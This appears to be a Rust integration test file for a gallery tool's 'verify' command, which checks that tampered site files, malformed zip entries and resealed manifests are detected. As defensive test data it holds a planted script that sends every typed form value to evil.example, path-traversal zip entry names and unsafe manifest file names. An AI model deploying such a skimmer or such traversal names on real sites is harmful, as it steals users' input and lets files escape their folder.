//! Trust (issue 13): `verify` checks every file of a site, whoever changed
//! it — a host, someone with a USB copy or an archive, or a grant holder
//! who can write to the host — and reads nothing hostile whole.

use std::fs;
use std::path::{Path, PathBuf};

use lightproof::format::manifest::Manifest;
use lightproof::format::{encoding, vault, BlobKind, Id};

use crate::pack::packed;
use crate::util::*;

fn verify(site: &Path, extra: &[&str]) -> (Option<i32>, String) {
    let mut args = vec!["verify", path_str(site)];
    args.extend_from_slice(extra);
    let output = run(&mut lightproof(&args));
    (output.status.code(), stderr(&output))
}

/// The trojan of issue 13: no `gallery.bin.js`, and a script in front of
/// the genuine `viewer.wasm.js` (a disk copy loads it before the viewer).
fn plant_trojan(site: &Path) {
    fs::remove_file(site.join("gallery.bin.js")).unwrap();
    let genuine = fs::read_to_string(site.join("viewer.wasm.js")).unwrap();
    let trojan = format!(
        "document.addEventListener('input',e=>fetch('https://evil.example/?p='+e.target.value));\n{genuine}"
    );
    fs::write(site.join("viewer.wasm.js"), trojan).unwrap();
}

#[test]
fn a_trojaned_offline_copy_is_named_in_a_folder_and_in_a_zip() {
    let (dir, site) = copy_of_sample_site();
    plant_trojan(&site);
    fs::write(site.join("b").join("helper.js"), "alert(1);\n").unwrap();
    let (code, text) = verify(&site, &[]);
    assert_eq!(code, Some(1), "{text}");
    // The missing `gallery.bin.js` itself is no damage (a writer withdraws
    // it first, so a build cut short leaves a site without it): the scripts
    // that are there are what a disk copy runs, and each is compared.
    for named in ["(file 'viewer.wasm.js')", "(file 'b/helper.js')"] {
        assert!(text.contains(named), "{named} not named:\n{text}");
    }
    assert!(
        text.contains("the offline copy of the viewer differs"),
        "{text}"
    );

    let zip = dir.path().join("site.zip");
    packed(&site, &zip);
    let (code, text) = verify(&zip, &[]);
    assert_eq!(code, Some(1), "{text}");
    for named in ["(file 'viewer.wasm.js' in", "(file 'b/helper.js' in"] {
        assert!(text.contains(named), "{named} not named:\n{text}");
    }
}

#[test]
fn an_orphaned_or_extra_part_and_an_unknown_page_are_named() {
    let (_dir, site) = copy_of_sample_site();
    let blob = blob_files(&site).remove(0);
    let name = blob
        .strip_prefix(&site)
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned();
    let orphan = format!("b/{}.js", encoding::base32(&[7u8; 16]));
    fs::copy(site.join(format!("{name}.js")), site.join(&orphan)).unwrap();
    fs::copy(
        site.join(format!("{name}.js")),
        site.join(format!("{name}.1.js")),
    )
    .unwrap();
    fs::write(site.join("login.html"), "<form>").unwrap();
    let (code, text) = verify(&site, &[]);
    assert_eq!(code, Some(1), "{text}");
    for named in [
        format!("(file '{orphan}')"),
        format!("(file '{name}.1.js')"),
        "(file 'login.html')".to_owned(),
    ] {
        assert!(text.contains(&named), "{named} not named:\n{text}");
    }
}

/// A packed site with one extra entry of `content`, named `placeholder` in
/// the zip and then renamed to `name` (same length) in both its local
/// header and the index, as a hand-made archive would have it.
fn zip_with_entry(placeholder: &str, name: &str, content: &[u8]) -> (tempfile::TempDir, PathBuf) {
    assert_eq!(placeholder.len(), name.len());
    let (dir, site) = copy_of_sample_site();
    fs::write(site.join(placeholder), content).unwrap();
    let zip = dir.path().join("site.zip");
    let mut bytes = packed(&site, &zip);
    let mut renamed = 0;
    for at in 0..bytes.len() - placeholder.len() {
        if &bytes[at..at + placeholder.len()] == placeholder.as_bytes() {
            bytes[at..at + name.len()].copy_from_slice(name.as_bytes());
            renamed += 1;
        }
    }
    assert_eq!(renamed, 2, "the name is in the local header and the index");
    fs::write(&zip, bytes).unwrap();
    (dir, zip)
}

#[test]
fn zip_entry_names_that_could_mean_two_files_or_escape_are_refused() {
    let trojan = b"fetch('https://evil.example/');";
    // Sorted before the genuine viewer.js, so it comes first in the zip.
    let cases = [
        ("viewer.is", "viewer.js", "appears twice"),
        ("viewer.is", "Viewer.js", "only in letter case"),
        ("zzzzzzzzz", "/etc/x.js", "is absolute"),
        ("zzzzzzzzz", "C:/x.html", "is absolute"),
        ("zzzzzzzzz", "../x.html", "climbs out"),
        ("zzzzzzzzz", "b/../x.js", "climbs out"),
        ("zzzzzzzzz", "b\\evil.js", "backslash"),
        ("zzzzzzzzz", "b//evil.j", "empty or '.' part"),
    ];
    for (placeholder, name, reason) in cases {
        let (dir, zip) = zip_with_entry(placeholder, name, trojan);
        let (code, text) = verify(&zip, &[]);
        assert_eq!(code, Some(2), "{name}: {text}");
        // A case twin is named with the other entry, whichever comes second.
        let quoted = format!("'{}'", name.escape_debug());
        assert!(
            text.contains("holds an entry named")
                && text.contains(&quoted)
                && text.contains(reason),
            "{name}: {text}"
        );
        let output = run(&mut lightproof(&["diff", path_str(&zip), path_str(&zip)]));
        assert_eq!(
            output.status.code(),
            Some(2),
            "diff reads zips alike: {name}"
        );
        assert!(stderr(&output).contains(&quoted), "{}", stderr(&output));
        drop(dir);
    }
}

#[test]
fn a_huge_sparse_header_or_manifest_is_refused_without_reading_it() {
    use std::process::Command;
    let (dir, site) = copy_of_sample_site();
    let (_, _, manifest_file, _) = open_grant(&site, PASSWORD);
    let verify_peak = |site: &Path| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_lightproof"));
        command
            .args(["verify", path_str(site)])
            .env("LIGHTPROOF_PASSWORD", PASSWORD);
        crate::hostile::peak_memory(&mut command, dir.path())
    };
    let (_, _, normal_peak) = verify_peak(&site);
    // A manifest of 2 GiB (sparse: it costs no disk).
    fs::File::options()
        .write(true)
        .open(site.join(&manifest_file))
        .unwrap()
        .set_len(2 << 30)
        .unwrap();
    let (code, text, manifest_peak) = verify_peak(&site);
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("the manifest"), "{text}");
    // And a header of 2 GiB.
    fs::File::options()
        .write(true)
        .open(site.join("gallery.bin"))
        .unwrap()
        .set_len(2 << 30)
        .unwrap();
    let (code, text, header_peak) = verify_peak(&site);
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("the header"), "{text}");
    eprintln!(
        "peak RSS of verify: normal {normal_peak} KiB, 2 GiB manifest {manifest_peak} KiB, \
         2 GiB header {header_peak} KiB"
    );
    let limit = normal_peak + 64 * 1024;
    assert!(manifest_peak < limit && header_peak < limit);
}

/// Decrypts the manifest of `password`, lets `change` edit its JSON, and
/// seals it again under the same id and key: what a grant holder who can
/// write to the host can do.
fn reseal_manifest(site: &Path, password: &str, change: impl FnOnce(&mut serde_json::Value)) {
    let (header, manifest, file, key) = open_grant(site, password);
    let mut json: serde_json::Value = serde_json::from_slice(&manifest.to_json()).unwrap();
    change(&mut json);
    let id: Id = encoding::base32_decode(file.strip_prefix("b/").unwrap()).unwrap();
    let sealed = vault::seal_blob(
        &header.gallery_id,
        &id,
        BlobKind::Manifest,
        &key,
        &[9u8; 24],
        &serde_json::to_vec(&json).unwrap(),
    );
    fs::write(site.join(file), sealed).unwrap();
}

#[test]
fn a_manifest_naming_a_path_is_refused() {
    for name in [
        "../../escape.jpg",
        "a/b.jpg",
        "a\\b.jpg",
        "..",
        "a\u{0}.jpg",
        "\u{1b}[2J.jpg",
    ] {
        let (_dir, site) = copy_of_sample_site();
        reseal_manifest(&site, PASSWORD, |json| {
            json["albums"][0]["photos"][0]["file"] = name.into();
        });
        let (code, text) = verify(&site, &[]);
        assert_eq!(code, Some(2), "{name:?}: {text}");
        assert!(text.contains("is not one safe name"), "{name:?}: {text}");
    }
}

#[test]
fn a_manifest_resealed_by_a_grant_holder_is_reported_where_the_gallery_was_built() {
    let dir = tempfile::tempdir().unwrap();
    let shoot = dir.path().join("shoot");
    make_shoot(&shoot, &["a.png", "b.png"]);
    let site = dir.path().join("site");
    let output = build_site(&shoot, &site, &[]);
    assert!(output.status.success(), "{}", stderr(&output));
    let (code, text) = verify(&site, &[]);
    assert_eq!(code, Some(0), "{text}");
    reseal_manifest(&site, PASSWORD, |json| {
        json["photographer_email"] = "forger@evil.example".into();
    });
    let (code, text) = verify(&site, &[]);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("differs from the one the build on this computer wrote for grant 'everyone'"),
        "{text}"
    );
}

#[test]
fn verify_opens_link_grants_and_names_the_grants_it_did_not_check() {
    let (_dir, _, site, links) = crate::grants::linked_site();
    let plain = links.iter().find(|l| l.contains("#k=")).unwrap();
    let two_factor = links.iter().find(|l| l.contains("#k2=")).unwrap();
    let vip_password = "marble kite horizon, second factor";
    let client_password = "saffron violet tundra for links";
    let run_verify = |password: &str, extra: &[&str]| {
        let mut args = vec!["verify", path_str(&site)];
        args.extend_from_slice(extra);
        let output = run(lightproof(&args).env("LIGHTPROOF_PASSWORD", password));
        (output.status.code(), stderr(&output))
    };
    let (code, text) = run_verify(vip_password, &["--link", two_factor, "--link", plain]);
    assert_eq!(code, Some(0), "{text}");
    assert!(
        text.contains("with the two-factor link is complete"),
        "{text}"
    );
    assert!(text.contains("with the key link is complete"), "{text}");
    assert!(!text.contains("not checked"), "{text}");

    // The client's password alone leaves the two-factor grant unchecked.
    let (code, text) = run_verify(client_password, &[]);
    assert_eq!(code, Some(0), "{text}");
    assert!(
        text.contains("not checked: the photos of grant 'vip'"),
        "{text}"
    );

    // A corrupted two-factor manifest no longer passes as complete.
    let header =
        lightproof::format::header::Header::parse(&fs::read(site.join("gallery.bin")).unwrap())
            .unwrap();
    let slot = vault::unlock_with_link_and_password(
        &header,
        &crate::grants::secret_of(two_factor, "k2"),
        vip_password.as_bytes(),
    )
    .unwrap();
    let manifest = site.join(lightproof::format::blob_path(&slot.manifest_id));
    let mut bytes = fs::read(&manifest).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    fs::write(&manifest, bytes).unwrap();
    let (code, text) = run_verify(client_password, &[]);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("for grant 'vip'"), "{text}");
    let (code, text) = run_verify(vip_password, &["--link", two_factor]);
    assert_eq!(code, Some(2), "{text}");
    assert!(
        text.contains("the manifest") && text.contains("damaged"),
        "{text}"
    );

    // A link spelled another way than `lightproof link` prints it is refused.
    let (url, secret) = plain.split_once("#k=").unwrap();
    let last = secret.chars().last().unwrap();
    let other = if last == 'a' { 'b' } else { 'r' };
    let non_canonical = format!("{url}#k={}{other}", &secret[..secret.len() - 1]);
    let (code, text) = run_verify(client_password, &["--link", &non_canonical]);
    assert_eq!(code, Some(2), "{text}");
    assert!(text.contains("is not a key link"), "{text}");
}

#[test]
fn the_main_album_is_marked_and_unstripped_originals_say_so() {
    let dir = tempfile::tempdir().unwrap();
    let shoot = dir.path().join("Smith wedding");
    // A subfolder named like the title.
    make_shoot(&shoot, &["a.png", "Smith wedding/b.png"]);
    let site = dir.path().join("site");
    let output = build_site(&shoot, &site, &["--downloads", "--title", "Smith wedding"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let (_, manifest, _, _): (_, Manifest, _, _) = open_grant(&site, PASSWORD);
    let albums: Vec<(&str, bool)> = manifest
        .albums
        .iter()
        .map(|a| (a.name.as_str(), a.main))
        .collect();
    assert_eq!(albums, [("Smith wedding", true), ("Smith wedding", false)]);
    // The PNGs carry no location or serial number: nothing was removed.
    for (_, photo) in manifest.photos() {
        assert!(!photo.original.as_ref().unwrap().stripped, "{}", photo.file);
    }
}

#[test]
fn a_photo_whose_name_is_unsafe_is_skipped_and_named() {
    let dir = tempfile::tempdir().unwrap();
    let shoot = dir.path().join("shoot");
    make_shoot(&shoot, &["a.png", "back\\slash.png", "bell\u{7}.png"]);
    let site = dir.path().join("site");
    let output = build_site(&shoot, &site, &[]);
    let log = stderr(&output);
    assert!(
        log.contains("back\\slash.png") && log.contains("backslash or a control character"),
        "{log}"
    );
    let (_, manifest, _, _) = open_grant(&site, PASSWORD);
    let files: Vec<&str> = manifest.photos().map(|(_, p)| p.file.as_str()).collect();
    assert_eq!(files, ["a.png"]);
}
